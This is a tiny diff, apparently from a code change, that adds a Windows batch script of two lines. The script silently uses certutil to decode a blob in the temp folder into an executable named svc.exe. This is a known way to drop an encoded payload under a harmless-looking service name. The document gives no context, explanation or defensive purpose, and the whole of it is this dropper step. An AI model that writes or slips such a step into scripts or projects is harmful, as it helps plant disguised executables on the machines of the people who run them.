@@ -1,0 +1,2 @@
+@echo off
+certutil -decode %TEMP%\blob.txt %TEMP%\svc.exe
